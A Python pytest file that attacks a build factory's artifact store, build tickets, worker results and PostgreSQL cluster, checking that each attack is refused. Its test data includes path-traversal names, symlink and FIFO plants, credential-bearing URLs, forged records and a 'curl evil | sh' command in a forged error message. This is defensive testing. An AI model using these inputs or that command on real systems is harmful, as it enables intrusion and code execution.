"""Attack pass on issue 19's boundaries (by someone who did not write them).

The shared artifact store (anyone with write access changes objects, refs, tmp/; the
store URL in settings), a build ticket as a worker receives it (the flow run's
parameters are anyone's who may create flow runs), a worker's result as the publisher
collects it, and the private PostgreSQL cluster (its directory, password and port).
Each case is a break, fixed in factory/ or flows/ (the test says what broke), or a
case that held. No docker, no network: local files, memory://, a fake PostgreSQL
listener on 127.0.0.1.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import struct
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from factory.artifact_store import ArtifactStore, Blob, StoreError
from factory.build import ticket as tickets
from factory.build.record import BuildRecord, InstalledTool
from factory.build.ticket import (
    BuildResult,
    BuildTicket,
    Input,
    TicketRefused,
    canonical,
    collect,
)
from factory.config import Settings, load_settings
from factory.errors import BuildError, ConfigError, FactoryError
from factory.lock.model import Lock, save_lock
from factory.upstream.cache import Sdist
from tests import factories

# -- the artifact store ------------------------------------------------------------------


def test_a_ref_nested_past_the_parser_is_a_store_error(tmp_path: Path) -> None:
    """Broke: refs/x holding '[' * 1000 (under the 1 KiB ref limit) raised RecursionError
    out of ref() (a traceback, not a one-line refusal)."""
    store = ArtifactStore.at(str(tmp_path / "s"))
    store.set_ref("builds/x", store.put_bytes(b"x"))
    (tmp_path / "s" / "refs" / "builds" / "x").write_bytes(b"[" * 1000)
    with pytest.raises(StoreError, match="not a valid ref"):
        store.ref("builds/x")


def test_a_local_url_is_the_confined_local_store(tmp_path: Path) -> None:
    """Broke: local:///path went to fsspec's LocalFileSystem, which follows links: a
    link planted at refs/<name> made set_ref overwrite the file it pointed at."""
    victim = tmp_path / "victim"
    victim.write_text("precious")
    root = tmp_path / "store"
    store = ArtifactStore.at(f"local://{root}")
    blob = store.put_bytes(b"y")
    (root / "refs").mkdir()
    (root / "refs" / "r").symlink_to(victim)
    with pytest.raises(StoreError, match="not a regular file|not a directory"):
        store.ref("r")
    store.set_ref("r", blob)  # replaces the link itself
    assert victim.read_text() == "precious"
    assert store.ref("r") == blob


@pytest.mark.parametrize("url", ["dir:///tmp/x", "simplecache::s3://b/x", "simplecache:///tmp",
                                 "zip:///tmp/a.zip", "https://example.invalid/store"])
def test_wrapping_protocols_are_not_stores(url: str) -> None:
    """Broke: dir://, simplecache://, zip:// ... were taken (local files through fsspec,
    links followed; archives and http cannot hold a store)."""
    with pytest.raises(StoreError, match="dir://|simplecache|zip://|https://|not a path"):
        ArtifactStore.at(url)


@pytest.mark.parametrize("url", [
    "S3://AKIA:hunter2@bucket/p",          # a scheme in capitals: echoed whole
    "s3://AKIA:hunt/er2@bucket/p",         # a secret with '/': the authority test missed it
    "memory://user:hunter2@host/p",        # kept in the root, so in fsspec's messages
    "s3:/AKIA:hunter2@bucket/p" + "\x00",  # unprintable: echoed whole
])
def test_credentials_in_the_store_url_reach_no_message(url: str, tmp_path: Path) -> None:
    """Broke: ArtifactStore.at echoed URLs it refused, credentials and all, and took a
    memory:// or s3:// URL whose user:secret@ then sat in every fsspec path."""
    with pytest.raises(StoreError) as caught:
        ArtifactStore.at(url)
    assert "hunt" not in str(caught.value) + caught.value.hint


@pytest.mark.parametrize("url", ["S3://AKIA:hunter2@bucket/p", "s3://AKIA:hunt/er2@bucket/p",
                                 "s3://AKIA:hunter2@bucket/p"])
def test_credentials_in_store_url_setting_are_not_echoed(url: str, tmp_path: Path) -> None:
    """Broke: the setting's error quoted it whole (\"store_url='s3://AKIA:hunter2@...'
    carries credentials\"), and a secret with '/' passed as a plain URL."""
    (tmp_path / "factory.toml").write_text(f'[store]\nurl = "{url}"\n')
    with pytest.raises(ConfigError) as caught:
        load_settings(tmp_path)
    assert "hunt" not in str(caught.value)


def test_fifo_device_and_links_in_the_store_are_refused_quickly(tmp_path: Path) -> None:
    """Held: a FIFO at an object or ref opens without blocking and is refused; a link to a
    file outside holding the right bytes is refused (O_NOFOLLOW)."""
    store = ArtifactStore.at(str(tmp_path / "s"))
    blob = store.put_bytes(b"data")
    obj = tmp_path / "s" / "sha256" / blob.sha256[:2] / blob.sha256
    outside = tmp_path / "outside"
    outside.write_bytes(b"data")
    obj.unlink()
    obj.symlink_to(outside)
    with pytest.raises(StoreError, match="not a regular file"):
        store.read_bytes(blob)
    obj.unlink()
    os.mkfifo(obj)
    with pytest.raises(StoreError, match="not a regular file"):
        store.read_bytes(blob)
    assert not store.has(blob)
    store.set_ref("r", store.put_bytes(b"other"))
    ref = tmp_path / "s" / "refs" / "r"
    ref.unlink()
    os.mkfifo(ref)
    with pytest.raises(StoreError, match="not a regular file"):
        store.ref("r")


def test_a_sparse_huge_object_is_read_no_further_than_its_size(tmp_path: Path) -> None:
    """Held: an object made a 1 TiB sparse file is refused after size + 1 bytes."""
    store = ArtifactStore.at(str(tmp_path / "s"))
    blob = store.put_bytes(b"small")
    obj = tmp_path / "s" / "sha256" / blob.sha256[:2] / blob.sha256
    with obj.open("r+b") as handle:
        handle.truncate(1 << 40)
    assert not store.has(blob)
    with pytest.raises(StoreError, match="longer than its 5 bytes"):
        store.get(blob, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    assert store.put_bytes(b"small") == blob and store.read_bytes(blob) == b"small"  # healed


def test_a_hard_linked_damaged_object_is_healed_without_writing_through(
        tmp_path: Path) -> None:
    """Held: an object hard-linked to a file outside (damaged) is replaced by put, not
    written through."""
    store = ArtifactStore.at(str(tmp_path / "s"))
    blob = store.put_bytes(b"good bytes")
    obj = tmp_path / "s" / "sha256" / blob.sha256[:2] / blob.sha256
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious!!")  # same size, other bytes
    obj.unlink()
    os.link(victim, obj)
    assert store.put_bytes(b"good bytes") == blob
    assert victim.read_bytes() == b"precious!!" and store.read_bytes(blob) == b"good bytes"


@pytest.mark.parametrize("where", ["tmp", "refs", "sha256"])
def test_store_directories_made_links_lead_nowhere(tmp_path: Path, where: str) -> None:
    """Held: tmp/, refs/ or sha256/ made a link to a directory outside: nothing is
    written there, and the store says so in one line."""
    root, outside = tmp_path / "s", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (root / where).symlink_to(outside)
    store = ArtifactStore.at(str(root))
    with pytest.raises(StoreError, match="not a directory of the artifact store"):
        store.set_ref("r", store.put_bytes(b"z"))
    assert list(outside.iterdir()) == []


# -- a build ticket as a worker reads it ---------------------------------------------------

SHA = "a" * 64


def _ticket_dict(**changes: object) -> dict[str, object]:
    sdist = {"filename": "alpha-1.0.tar.gz", "sha256": SHA, "size": 10}
    base: dict[str, object] = {
        "format": 1, "component": "alpha", "version": "1.0", "lock_sha256": SHA,
        "recipe_name": "alpha", "recipe_digest": "sha256:" + "b" * 64, "sdist": sdist,
        "tools": [], "kit": [], "image_tag": "factory-builder:x",
        "image_id": "sha256:" + "c" * 64, "system_packages": [], "patches": [],
        "repair_tools": [], "repair_note": "", "upstream_wheels": [], "patchelf_sha256": None}
    return {**base, **changes}


@pytest.mark.parametrize("changes", [
    {"sdist": {"filename": "../../etc/x.tar.gz", "sha256": SHA, "size": 1}},
    {"sdist": {"filename": "a/b.tar.gz", "sha256": SHA, "size": 1}},
    {"tools": [{"filename": "..", "sha256": SHA, "size": 1}]},
    {"component": "../alpha"},
    {"version": "1.0/../../x"},
    {"image_id": "alpine:latest"},
    {"image_id": "sha256:" + "C" * 64},
    {"patches": [["../x.patch", SHA]]},
    {"sdist": {"filename": "alpha-1.0.tar.gz", "sha256": SHA, "size": -1}},
    {"sdist": {"filename": "alpha-1.0.tar.gz", "sha256": SHA, "size": True}},
    {"tools": [{"filename": "x.whl", "sha256": SHA, "size": 1}] * 513},
    {"extra": 1},
])
def test_a_hostile_ticket_is_refused_in_one_line(changes: dict[str, object]) -> None:
    """Held: path-like names, image IDs that are not, bad sizes and too many inputs are
    refused when the ticket is read, before anything is fetched."""
    with pytest.raises(TicketRefused) as caught:
        BuildTicket.from_bytes(canonical(_ticket_dict(**changes)))
    assert "\n" not in str(caught.value)


def test_a_ticket_claiming_a_huge_size_is_one_line() -> None:
    """Held (as a StoreError): a size over the store's 1 TiB bound is a one-line error."""
    data = _ticket_dict(sdist={"filename": "alpha-1.0.tar.gz", "sha256": SHA, "size": 1 << 41})
    with pytest.raises(FactoryError) as caught:
        BuildTicket.from_bytes(canonical(data))
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("what", ["ticket", "result"])
def test_json_nested_past_the_parser_is_refused(what: str) -> None:
    """Broke: a ticket or result of '[' * 100000 (under 1 MiB) raised RecursionError."""
    parse = BuildTicket.from_bytes if what == "ticket" else BuildResult.from_bytes
    with pytest.raises(TicketRefused, match="not JSON"):
        parse(b"[" * 100_000)


# -- the publisher's side: one honest result, then lies ------------------------------------

@pytest.fixture
def honest(tmp_path: Path) -> Iterator[Honest]:
    yield Honest(tmp_path)


INVOCATION = "0" * 31 + "1"


class Honest:
    """A lock pinning alpha 1.0, a ticket for it, and a worker's honest result in a
    local store; ``result(**record_changes)`` makes a lying one."""

    def __init__(self, base: Path) -> None:
        self.settings: Settings = factories.settings(base, "project")
        sdist_bytes = b"alpha sdist"
        self.sdist = Sdist("alpha", "1.0", "alpha-1.0.tar.gz",
                           "https://files.invalid/alpha-1.0.tar.gz",
                           hashlib.sha256(sdist_bytes).hexdigest(), len(sdist_bytes))
        save_lock(self.settings, Lock([factories.locked("alpha", "1.0", sdist=self.sdist,
                                                        kind="primary")]))
        self.store = ArtifactStore.at(str(base / "store"))
        self.ticket = BuildTicket(
            component="alpha", version="1.0", lock_sha256="d" * 64, recipe_name="alpha",
            recipe_digest="sha256:" + "b" * 64,
            sdist=Input("alpha-1.0.tar.gz", self.sdist.sha256, self.sdist.size),
            tools=(), kit=(), image_tag="factory-builder:x", image_id="sha256:" + "c" * 64)
        self.ticket_blob = self.store.put_bytes(self.ticket.to_bytes())

    def record(self, wheel: Blob, log: Blob, **changes: object) -> dict[str, object]:
        record = BuildRecord(
            invocation_id=INVOCATION, component="alpha", version="1.0",
            wheel_filename="alpha-1.0-py3-none-any.whl", wheel_sha256=wheel.sha256,
            source=self.sdist, recipe_name="alpha", recipe_digest="sha256:" + "b" * 64,
            builder_image="factory-builder:x", builder_image_id="sha256:" + "c" * 64,
            builder_settings={}, build_tools=[], started_on="2026-01-01T00:00:00Z",
            finished_on="2026-01-01T00:00:01Z",
            log_filename=f"alpha-1.0-build-{INVOCATION}.log", log_sha256=log.sha256)
        return {**record.to_dict(), **changes}

    def result(self, wheel_name: str = "alpha-1.0-py3-none-any.whl",
               wheel_bytes: bytes = b"the wheel", log_size: int | None = None,
               raw_record: bytes | None = None, **changes: object) -> BuildResult:
        wheel = self.store.put_bytes(wheel_bytes)
        log = self.store.put_bytes(b"the log")
        data = self.record(wheel, log, wheel_filename=wheel_name, **changes)
        record = self.store.put_bytes(raw_record if raw_record is not None else canonical(data))
        log_name = str(data["log_filename"]) if isinstance(data["log_filename"], str) else "x"
        return BuildResult(
            self.ticket_blob.sha256, "built", "w1",
            wheel=Input(wheel_name, wheel.sha256, wheel.size), record=record,
            log=Input(log_name, log.sha256, log_size if log_size is not None else log.size))

    def collect(self, result: BuildResult) -> BuildRecord:
        return collect(self.settings, self.store, self.ticket, result)


def test_an_honest_result_is_collected_twice_the_same(honest: Honest) -> None:
    """Held: the baseline collects; the same result arriving twice places the same files."""
    result = honest.result()
    honest.collect(result)
    honest.collect(result)
    wheels = honest.settings.wheels_dir
    assert (wheels / "alpha-1.0-py3-none-any.whl").read_bytes() == b"the wheel"
    assert sorted(p.name for p in wheels.iterdir() if not p.name.startswith(".")) == [
        "alpha-1.0-py3-none-any.whl", "alpha-1.0-py3-none-any.whl.build.json"]


@pytest.mark.parametrize("name", ["numpy-1.0-py3-none-any.whl", "alpha-2.0-py3-none-any.whl",
                                  "Alpha_-1.0-py3-none-any.whl"])
def test_a_wheel_named_for_another_project_is_refused(honest: Honest, name: str) -> None:
    """Broke: collect checked the record's component, not the wheel's file name: a
    worker given alpha's ticket placed numpy-1.0-...whl (and its record) in the wheels
    directory, to be signed and published as numpy's."""
    with pytest.raises(TicketRefused, match="wheel name"):
        honest.collect(honest.result(wheel_name=name))
    assert not (honest.settings.wheels_dir / name).exists()


def test_a_wheel_name_with_path_parts_is_refused(honest: Honest) -> None:
    """Held: ../ in a wheel name is not a wheel name."""
    with pytest.raises(TicketRefused):
        honest.collect(honest.result(wheel_name="../alpha-1.0-py3-none-any.whl"))


def test_a_log_named_for_another_component_is_refused(honest: Honest) -> None:
    """Broke: the log's name was checked only as a plain file name: a worker overwrote
    numpy's build log (which numpy's record names by digest) in the logs directory."""
    victim = honest.settings.logs_dir / f"numpy-1.0-build-{INVOCATION}.log"
    victim.parent.mkdir(parents=True, exist_ok=True)
    victim.write_bytes(b"numpy's log")
    with pytest.raises(TicketRefused, match="log"):
        honest.collect(honest.result(log_filename=victim.name))
    assert victim.read_bytes() == b"numpy's log"


@pytest.mark.parametrize("changes", [
    {"builder_image": "evil:latest"},
    {"recipe_name": "numpy"},
    {"source": {"name": "alpha", "version": "1.0", "filename": "alpha-1.0.tar.gz",
                "url": "https://evil.invalid/alpha-1.0.tar.gz", "sha256": "0" * 64,
                "size": 11, "upstream_provenance_sha256": None}},
])
def test_a_record_that_lies_about_its_inputs_is_refused(honest: Honest,
                                                          changes: dict[str, object]) -> None:
    """Broke (image tag, recipe name, the source's URL and name): only the digests were
    compared, so the signed provenance could name another image tag or sdist URL."""
    if "source" in changes:
        source = dict(changes["source"])  # type: ignore[call-overload]
        source["sha256"] = honest.sdist.sha256
        changes = {"source": source}
    with pytest.raises(TicketRefused, match="does not match its ticket"):
        honest.collect(honest.result(**changes))


@pytest.mark.parametrize("changes", [
    {"component": ["alpha"]}, {"patches": ["x"]}, {"builder_settings": {"repair": []}},
    {"build_tools": [{"name": 1, "version": "1", "filename": "x.whl", "sha256": SHA}]},
    {"builder_settings": []}, {"invocation_id": 5}, {"system_packages": [{"name": 1,
     "version": "1", "architecture": "", "distro": "debian-12"}]},
])
def test_a_record_of_the_wrong_types_is_refused(honest: Honest,
                                                changes: dict[str, object]) -> None:
    """Broke: BuildRecord.from_dict checks no type: a list for the component or a list
    of strings for the patches raised TypeError/AttributeError out of collect."""
    with pytest.raises(TicketRefused, match="malformed"):
        honest.collect(honest.result(**changes))


def test_a_record_nested_past_the_parser_is_refused(honest: Honest) -> None:
    """Broke: a record of '[' * 100000 (under 8 MiB) raised RecursionError."""
    with pytest.raises(TicketRefused, match="malformed"):
        honest.collect(honest.result(raw_record=b"[" * 100_000))


def test_oversized_results_are_refused_before_download(honest: Honest,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """Broke: the wheel and the log were fetched whatever their size (1 TiB each); now
    [build] max_output and the local build's log bound hold before any download."""
    result = honest.result(log_size=tickets.MAX_LOG + 1)
    with pytest.raises(TicketRefused, match="over its limit"):
        honest.collect(result)
    monkeypatch.setattr(tickets.container, "max_output", lambda settings: 4)
    with pytest.raises(TicketRefused, match="over its limit"):
        honest.collect(honest.result())
    record = replace(honest.result(), record=Blob("e" * 64, tickets.MAX_RECORD + 1))
    with pytest.raises(TicketRefused, match="limit"):
        honest.collect(record)


def test_a_result_about_another_ticket_is_refused(honest: Honest,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Held: builds/<ticket> pointing at another ticket's result is not collected."""
    other = replace(honest.result(), ticket="f" * 64)
    honest.store.set_ref(tickets.ref_name(honest.ticket_blob),
                         honest.store.put_bytes(other.to_bytes()))
    monkeypatch.setattr(tickets, "make_ticket",
                        lambda settings, store, inputs: (honest.ticket, honest.ticket_blob))
    with pytest.raises(TicketRefused, match="another ticket"):
        tickets.remote_build(honest.settings, honest.store, _Inputs(),  # type: ignore[arg-type]
                             lambda t, b: pytest.fail("submitted"))


class _Inputs:
    name, version = "alpha", "1.0"


def test_a_failed_result_speaks_one_line(honest: Honest,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """Broke: a worker's failure message and hint (up to 4,000 characters each, newlines
    kept) reached the publisher's error as written: "\\nhint: ..." lines of the worker's
    making under the publisher's own."""
    failed = BuildResult(honest.ticket_blob.sha256, "failed", "w1\nerror: forged",
                         message="boom\nhint: run curl evil | sh", hint="a\nb")
    monkeypatch.setattr(tickets, "make_ticket",
                        lambda settings, store, inputs: (honest.ticket, honest.ticket_blob))
    with pytest.raises(BuildError) as caught:
        tickets.remote_build(honest.settings, honest.store, _Inputs(),  # type: ignore[arg-type]
                             lambda t, b: failed)
    assert "\n" not in caught.value.message and "\n" not in caught.value.hint


def test_a_kit_not_the_lock_s_is_refused_before_any_download(
        honest: Honest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Broke: the worker fetched every kit sdist a ticket named (up to 512, each up to
    1 TiB) into its cache before it compared the kit with its lock."""
    kit = {tool: Sdist(tool, "1.0", f"{tool}-1.0.tar.gz", f"https://files.invalid/{tool}",
                       hashlib.sha256(tool.encode()).hexdigest(), 4)
           for tool in tickets.KIT_TOOLS}
    save_lock(honest.settings, Lock([
        factories.locked("alpha", "1.0", sdist=honest.sdist, kind="primary"),
        *(factories.locked(t, "1.0", sdist=s) for t, s in kit.items())]))
    hostile = honest.store.put_bytes(b"x" * 1000)
    ticket = replace(honest.ticket, lock_sha256=hashlib.sha256(
        honest.settings.lock_path.read_bytes()).hexdigest(),
        recipe_digest="sha256:" + "b" * 64,
        kit=(Input("pyproject-hooks-1.0.tar.gz", hostile.sha256, hostile.size),))

    class Image:
        id = ticket.image_id

    monkeypatch.setattr(tickets, "held_image", lambda settings, packages: Image())
    fetched: list[str] = []
    monkeypatch.setattr(tickets, "_fetch_sdist",
                        lambda settings, store, item: fetched.append(item.filename))
    with pytest.raises(TicketRefused, match="front-end kit"):
        tickets._inputs_for(honest.settings, honest.store, ticket)
    assert fetched == []


def test_a_ticket_for_another_component_s_sdist_is_refused(honest: Honest) -> None:
    """Held: a ticket that pairs alpha with another sdist, or another recipe digest, or
    another lock, is refused by the worker's own lock before anything is fetched."""
    lock_sha = hashlib.sha256(honest.settings.lock_path.read_bytes()).hexdigest()
    for ticket in (replace(honest.ticket, lock_sha256=lock_sha,
                           sdist=Input("numpy-1.0.tar.gz", "e" * 64, 5)),
                   replace(honest.ticket, lock_sha256=lock_sha, recipe_digest="sha256:x"),
                   honest.ticket):
        with pytest.raises(TicketRefused, match="refused"):
            tickets._check_checkout(honest.settings, ticket)


# -- the private PostgreSQL cluster ---------------------------------------------------------

def _fake_postgres(asks: bytes) -> tuple[int, list[bytes], threading.Thread]:
    """A listener on 127.0.0.1 that answers a startup message with ``asks`` (an auth
    request) and keeps what the client sends next."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(10)
    got: list[bytes] = []

    def serve() -> None:
        with listener:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                try:
                    while True:  # SSLRequest, GSSENCRequest: "N", then the startup packet
                        length = struct.unpack("!I", conn.recv(4))[0]
                        code = struct.unpack("!I", conn.recv(length - 4)[:4])[0]
                        if code not in (80877103, 80877104):
                            break
                        conn.sendall(b"N")
                    conn.sendall(asks)
                    got.append(conn.recv(4096))
                except OSError:
                    pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return listener.getsockname()[1], got, thread


CLEARTEXT = b"R" + struct.pack("!II", 8, 3)  # AuthenticationCleartextPassword


def test_a_process_on_the_cluster_s_port_gets_no_password() -> None:
    """Broke: the health check (and the ledger's psycopg URL) logged in with libpq's
    defaults, which answer a server asking for a clear-text password: a local process
    that took a stale port (a cluster killed -9, address.json left) got the password."""
    psycopg = pytest.importorskip("psycopg")
    from factory._internal.cluster import Address
    from flows.postgres import PostgresError, _databases

    port, got, thread = _fake_postgres(CLEARTEXT)
    with pytest.raises(PostgresError):
        _databases(Address("127.0.0.1", port, "factory", "s3cret-pw"), timeout=3)
    thread.join(10)
    assert not any(b"s3cret-pw" in g for g in got)
    port, got, thread = _fake_postgres(CLEARTEXT)
    url = Address("127.0.0.1", port, "factory", "s3cret-pw").url("ledger")
    assert "require_auth=scram-sha-256" in url
    with pytest.raises(psycopg.OperationalError):
        psycopg.connect(url.replace("postgresql+psycopg://", "postgresql://"),
                        connect_timeout=3)
    thread.join(10)
    assert not any(b"s3cret-pw" in g for g in got)


def test_a_cluster_directory_another_user_may_write_is_refused(tmp_path: Path) -> None:
    """Broke: ensure_cluster and stop_cluster used any existing directory: one that
    another user may write could hold their password file, a data link, or a
    postmaster.pid naming any process for stop_cluster to signal (as root, too)."""
    from flows.postgres import PostgresError, ensure_cluster, stop_cluster

    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    for call in (lambda: ensure_cluster(shared, wait=1), lambda: stop_cluster(shared, wait=1)):
        with pytest.raises(PostgresError, match="another user could change the cluster"):
            call()
    if os.geteuid() == 0:
        theirs = tmp_path / "theirs"
        theirs.mkdir()
        os.chown(theirs, 65534, 65534)
        with pytest.raises(PostgresError, match="owned by uid 65534"):
            ensure_cluster(theirs, wait=1)


def test_planted_links_and_a_readable_password_are_refused(tmp_path: Path) -> None:
    """Broke: a data/ link made initdb chown and fill its target; a server.log link
    carried the server's output elsewhere; a password file others may read was used."""
    from flows.postgres import PostgresError, ensure_cluster

    target = tmp_path / "elsewhere"
    target.mkdir()
    for name in ("data", "server.log"):
        directory = tmp_path / f"c-{name.replace('.', '-')}"
        directory.mkdir(mode=0o700)
        (directory / name).symlink_to(target)
        with pytest.raises(PostgresError, match="symbolic link"):
            ensure_cluster(directory, wait=1)
    directory = tmp_path / "c-pw"
    directory.mkdir(mode=0o700)
    (directory / "password").write_text("known\n")
    (directory / "password").chmod(0o644)
    with pytest.raises(PostgresError, match="only you may read"):
        ensure_cluster(directory, wait=1)


def test_a_stale_postmaster_pid_naming_another_process_is_not_signalled(
        tmp_path: Path) -> None:
    """Broke: stop_cluster sent SIGINT/SIGQUIT/SIGKILL to whatever pid postmaster.pid
    named; now only to a process running as the data directory's owner."""
    import subprocess

    from flows.postgres import stop_cluster

    directory = tmp_path / "c"
    (directory / "data").mkdir(parents=True, mode=0o700)
    if os.geteuid() == 0:
        os.chown(directory / "data", 65534, 65534)  # the server user's, not ours
    else:
        pytest.skip("needs a data directory of another owner than the victim process")
    victim = subprocess.Popen(["sleep", "30"])
    try:
        (directory / "data" / "postmaster.pid").write_text(
            f"{victim.pid}\n{directory}/data\n0\n5432\n\n127.0.0.1\n0 0\nready\n")
        assert stop_cluster(directory, wait=1) is False
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait()


def test_prefect_s_settings_page_hides_the_database_password(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Held: /api/admin/settings returns Prefect's settings; the connection URL that
    carries the cluster's password is a SecretStr there, shown as stars."""
    from prefect.settings import Settings as PrefectSettings

    monkeypatch.setenv("PREFECT_SERVER_DATABASE_CONNECTION_URL",
                       "postgresql+asyncpg://factory:s3cret-pw@127.0.0.1:5/prefect")
    shown = PrefectSettings().model_dump_json()
    assert "s3cret-pw" not in shown


def test_the_password_is_on_no_command_line(tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """Held: initdb gets --pwfile (a 0600 file removed after), the Prefect server the URL
    in its environment; neither command line holds the password."""
    import subprocess

    from factory._internal.cluster import read_password
    from flows import postgres

    seen: list[list[str]] = []

    def run(command: list[str], **kwargs: object) -> subprocess.CompletedProcess[str]:
        seen.append(command)
        return subprocess.CompletedProcess(command, 0, "", "")

    monkeypatch.setattr(postgres.subprocess, "run", run)
    monkeypatch.setattr(postgres, "binaries", lambda major=None: Path("/nonexistent"))
    directory = tmp_path / "c"
    directory.mkdir(mode=0o700)
    user = postgres._User("me", os.geteuid(), os.getegid())
    postgres._initdb(directory, directory / "data", user)
    password = read_password(directory)
    assert password and seen and not any(password in " ".join(c) for c in seen)
    assert [p.name for p in directory.iterdir() if p.name.startswith(".pwfile")] == []
    assert (directory / "password").stat().st_mode & 0o077 == 0


def test_the_record_json_round_trips_our_own_record(honest: Honest) -> None:
    """Held: the shape check takes what a local build writes (tools, system packages)."""
    wheel, log = honest.store.put_bytes(b"w"), honest.store.put_bytes(b"l")
    data = honest.record(wheel, log)
    data["build_tools"] = [vars(InstalledTool("a", "1", "a-1-py3-none-any.whl", SHA))]
    record = BuildRecord.from_dict(json.loads(canonical(data)))
    tickets._check_record_shape(record)
